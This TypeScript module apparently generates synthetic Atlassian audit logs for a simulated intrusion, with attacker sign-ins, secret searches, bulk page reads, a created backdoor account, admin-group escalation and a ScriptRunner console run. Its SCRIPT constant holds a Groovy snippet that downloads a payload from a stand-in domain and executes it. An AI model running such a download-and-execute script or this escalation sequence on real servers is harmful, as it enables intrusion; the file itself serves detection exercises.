/** The attacker in Jira and Confluence: searches, 36 tickets, 202 pages, the made account, ScriptRunner, the admin group. */
import { type Account, author, MADE, SERVICE, userObject } from '../accounts.ts';
import { at, SECOND } from '../clock.ts';
import { issueObject, pageObjects, SECRET_ISSUES, SECRET_PAGES } from '../content.ts';
import { ATLASSIAN_HOST, ATTACKER_IP, PAYLOAD_DOMAIN, PAYLOAD_NAME, SEARCHES, T } from '../facts.ts';
import type { Label, LogRecord } from '../record.ts';
import { type Rng, rng } from '../rng.ts';
import {
  type AffectedObject,
  ANONYMOUS,
  type AuditAction,
  auditRecord,
  productOf,
} from '../vendors/atlassian.ts';
import type { StepId } from './steps.ts';

/** What the attacker's requests look like behind the reverse proxy: mostly the address, sometimes both hops. */
export function attackerSource(random: Rng): string {
  return random.chance(0.2) ? `${ATTACKER_IP}, ${ATLASSIAN_HOST}` : ATTACKER_IP;
}

const random = rng('attack/atlassian');
const smartsheet = SERVICE.smartsheet;

const label = (step: StepId, ...alsoShows: StepId[]): Label => ({
  role: 'attacker',
  step,
  ...(alsoShows.length > 0 ? { alsoShows } : {}),
});

function act(
  time: number,
  who: Account,
  action: AuditAction,
  step: Label,
  more: {
    affected?: readonly AffectedObject[];
    changed?: readonly { key: string; from?: string; to?: string }[];
    extra?: Record<string, string>;
  } = {},
): LogRecord {
  return auditRecord({
    time,
    action,
    author: author(who, productOf(action)),
    from: attackerSource(random),
    label: step,
    ...more,
  });
}

function login(time: number, who: Account, product: 'jira' | 'confluence', step: Label): LogRecord {
  const action = product === 'jira' ? 'jira.auditing.user.logged.in' : 'audit.logging.summary.user.login';
  return act(time, who, action, step, { affected: [userObject(who, product)] });
}

/** A sign-in that fails: the author is Anonymous, the account that was tried is the affected object. */
function refused(time: number, who: Account): LogRecord {
  return auditRecord({
    time,
    action: 'jira.auditing.user.login.failed',
    author: ANONYMOUS,
    from: attackerSource(random),
    affected: [userObject(who)],
    extra: { details: 'The account is inactive' },
    label: label('lockout'),
  });
}

const search = (time: number, who: Account, words: string): LogRecord =>
  act(time, who, 'audit.logging.summary.search.performed', label('searches'), { extra: { query: words } });

/** Moments of a stretch of reading: in order, a second apart at least, the first and the last on the ends. */
function moments(from: number, to: number, count: number): number[] {
  const inner = new Set<number>();
  while (inner.size < count - 2)
    inner.add(random.int(from / SECOND + 1, to / SECOND - 1) * SECOND + random.int(1, 999));
  return [from, ...inner, to].sort((a, b) => a - b);
}

interface Reading {
  readonly from: string;
  readonly to: string;
  readonly who: Account;
  /** Ordinals in SECRET_PAGES and SECRET_ISSUES, first and past the last. Overlaps are pages read twice. */
  readonly pages: readonly [number, number];
  readonly issues: readonly [number, number];
  readonly step: StepId | null;
}

const READINGS: readonly Reading[] = [
  {
    from: '2023-11-15 16:34:02',
    to: '2023-11-15 18:41:19',
    who: smartsheet,
    pages: [0, 46],
    issues: [0, 6],
    step: null,
  },
  {
    from: '2023-11-16 09:20:45',
    to: '2023-11-16 12:11:08',
    who: smartsheet,
    pages: [44, 100],
    issues: [6, 17],
    step: null,
  },
  {
    from: '2023-11-16 13:02:30',
    to: '2023-11-16 15:34:51',
    who: smartsheet,
    pages: [100, 143],
    issues: [17, 25],
    step: null,
  },
  {
    from: '2023-11-17 11:05:12',
    to: '2023-11-17 14:33:52',
    who: smartsheet,
    pages: [140, 184],
    issues: [24, 31],
    step: null,
  },
  {
    from: '2023-11-22 16:43:20',
    to: '2023-11-22 17:09:47',
    who: MADE,
    pages: [184, 192],
    issues: [31, 33],
    step: 'made-account-used',
  },
  {
    from: '2023-11-23 15:12:08',
    to: '2023-11-23 15:49:33',
    who: smartsheet,
    pages: [192, 199],
    issues: [33, 35],
    step: null,
  },
  {
    from: '2023-11-23 16:44:16',
    to: '2023-11-23 17:02:59',
    who: MADE,
    pages: [199, 202],
    issues: [35, 36],
    step: 'made-account-used',
  },
];

/** Every page and ticket of one stretch. The very last of 17 November is the last action before the pause. */
function read(reading: Reading): LogRecord[] {
  const pages = SECRET_PAGES.slice(...reading.pages).map((page) => ({
    kind: 'page' as const,
    objects: pageObjects(page),
  }));
  const issues = SECRET_ISSUES.slice(...reading.issues).map((issue) => ({
    kind: 'issue' as const,
    objects: [issueObject(issue)],
  }));
  const things = random.sample([...pages, ...issues], pages.length + issues.length);
  const lastPage = things.findLastIndex((thing) => thing.kind === 'page');
  things.push(...things.splice(lastPage, 1));
  const times = moments(at(reading.from), at(reading.to), things.length);
  return things.map(({ kind, objects }, index) => {
    const time = times[index]!;
    const step: StepId = kind === 'page' ? 'wiki-read' : 'jira-read';
    const also: StepId[] = [
      ...(reading.step === null ? [] : [reading.step]),
      ...(time === T.pauseFrom ? (['pause-begins'] as const) : []),
    ];
    const action = kind === 'page' ? 'audit.logging.summary.page.viewed' : 'jira.auditing.issue.viewed';
    return act(time, reading.who, action, label(step, ...also), { affected: objects });
  });
}

const SCRIPT = [
  'import com.atlassian.jira.component.ComponentAccessor',
  'def home = ComponentAccessor.getComponent(com.atlassian.jira.config.util.JiraHome)',
  `def out = new File(home.localHomePath, 'caches/${PAYLOAD_NAME}')`,
  `out.bytes = new URL('https://${PAYLOAD_DOMAIN}/${PAYLOAD_NAME}').bytes`,
  'out.executable = true',
  'new ProcessBuilder(out.path).start()',
  'return out.length()',
].join('\n');

function madeAccount(): LogRecord[] {
  const t = T.accountCreated;
  const group = (time: number, name: string): LogRecord =>
    act(time, smartsheet, 'jira.auditing.group.user.added', label('groups-added'), {
      affected: [{ name, type: 'GROUP' }, userObject(MADE)],
    });
  return [
    act(t, smartsheet, 'jira.auditing.user.created', label('account-created'), {
      affected: [userObject(MADE)],
      changed: [
        { key: 'Username', to: MADE.login },
        { key: 'Full name', to: MADE.name },
        { key: 'Email', to: `${MADE.login}@halcyonedge.example` },
        { key: 'Active / Inactive', to: 'Active' },
      ],
    }),
    group(t + 15 * SECOND + 340, 'jira-software-users'),
    group(t + 22 * SECOND + 71, 'confluence-users'),
    group(t + 31 * SECOND + 902, 'bitbucket-users'),
    group(t + 44 * SECOND + 588, 'engineering-all'),
  ];
}

function adminGroup(): LogRecord {
  return act(T.adminGroup, smartsheet, 'jira.auditing.group.user.added', label('admin-group'), {
    affected: [{ name: 'jira-administrators', type: 'GROUP' }, userObject(smartsheet)],
  });
}

function scriptRunner(): LogRecord {
  return act(
    T.scriptRunner,
    smartsheet,
    'jira.auditing.scriptrunner.console.executed',
    label('scriptrunner'),
    {
      affected: [{ name: 'Script Console', type: 'PLUGIN' }],
      extra: { script: SCRIPT, language: 'groovy' },
    },
  );
}

function signIns(): LogRecord[] {
  const jira = (time: string, step: StepId = 'atlassian-access'): LogRecord =>
    login(at(time) + random.int(20, 999), smartsheet, 'jira', label(step));
  const wiki = (time: string, step: StepId = 'atlassian-access'): LogRecord =>
    login(at(time) + random.int(20, 999), smartsheet, 'confluence', label(step));
  const made = (time: string, product: 'jira' | 'confluence'): LogRecord =>
    login(at(time) + random.int(20, 999), MADE, product, label('made-account-used'));
  return [
    jira('2023-11-15 16:28:51'),
    wiki('2023-11-15 16:29:07'),
    jira('2023-11-16 09:08:30'),
    wiki('2023-11-16 09:09:02'),
    jira('2023-11-17 11:02:58'),
    wiki('2023-11-17 11:03:11'),
    jira('2023-11-20 09:27:08', 'access-tests'),
    wiki('2023-11-20 09:27:31', 'access-tests'),
    jira('2023-11-21 13:41:32', 'access-tests'),
    jira('2023-11-22 14:10:12'),
    wiki('2023-11-22 14:12:44'),
    made('2023-11-22 16:41:05', 'jira'),
    made('2023-11-22 16:42:18', 'confluence'),
    jira('2023-11-23 08:27:49'),
    wiki('2023-11-23 15:09:30'),
    made('2023-11-23 16:41:27', 'jira'),
    made('2023-11-23 16:42:50', 'confluence'),
  ];
}

function searches(): LogRecord[] {
  const [remoteAccess, secret, clientSecret, openconnect, cloudflared, token] = SEARCHES;
  const times = (...entries: readonly (readonly [string, string])[]): LogRecord[] =>
    entries.map(([time, words]) => search(at(time) + random.int(20, 999), smartsheet, words));
  return [
    ...times(
      ['2023-11-15 16:30:44', remoteAccess],
      ['2023-11-15 16:52:13', secret],
      ['2023-11-15 17:31:40', clientSecret],
      ['2023-11-15 18:07:05', token],
      ['2023-11-16 09:12:20', 'global network'],
      ['2023-11-16 09:16:37', openconnect],
      ['2023-11-16 10:05:52', cloudflared],
      ['2023-11-16 11:20:09', token],
      ['2023-11-16 13:40:18', remoteAccess],
      ['2023-11-17 11:04:31', secret],
    ),
    act(at('2023-11-16 09:14:03') + 655, smartsheet, 'jira.auditing.issue.searched', label('searches'), {
      extra: { query: 'text ~ "global network" ORDER BY updated DESC' },
    }),
    act(at('2023-11-17 12:16:45') + 48, smartsheet, 'jira.auditing.issue.searched', label('searches'), {
      extra: { query: 'text ~ "password reset" AND project = IT' },
    }),
    act(at('2023-11-21 13:42:05') + 377, smartsheet, 'jira.auditing.issue.searched', label('access-tests'), {
      extra: { query: 'assignee = currentUser()' },
    }),
  ];
}

export function attackAtlassian(): LogRecord[] {
  return [
    ...signIns(),
    ...searches(),
    ...READINGS.flatMap(read),
    ...madeAccount(),
    scriptRunner(),
    adminGroup(),
    ...['2023-11-23 16:36:22', '2023-11-23 16:38:09', '2023-11-23 18:20:47'].map((time) =>
      refused(at(time) + random.int(20, 999), smartsheet),
    ),
    ...['2023-11-23 17:26:14', '2023-11-23 17:27:02', '2023-11-23 20:55:38'].map((time) =>
      refused(at(time) + random.int(20, 999), MADE),
    ),
  ];
}
